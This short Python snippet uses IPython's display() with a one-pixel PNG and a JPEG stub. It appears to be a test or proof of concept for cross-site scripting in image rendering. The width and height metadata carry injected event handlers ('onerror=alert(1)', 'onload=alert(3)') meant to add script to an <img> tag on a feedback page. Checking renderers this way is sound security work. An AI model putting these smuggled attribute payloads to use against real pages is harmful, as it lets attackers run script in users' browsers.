from IPython.display import display

# Images whose width and height would add attributes, and scripts, to the <img> tag of the feedback page.
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
display({"image/png": PIXEL}, raw=True, metadata={"image/png": {"width": "1 onerror=alert(1) x", "height": 2}})
display({"image/jpeg": "/9j/"}, raw=True, metadata={"image/jpeg": {"height": "3 onload=alert(3)"}})
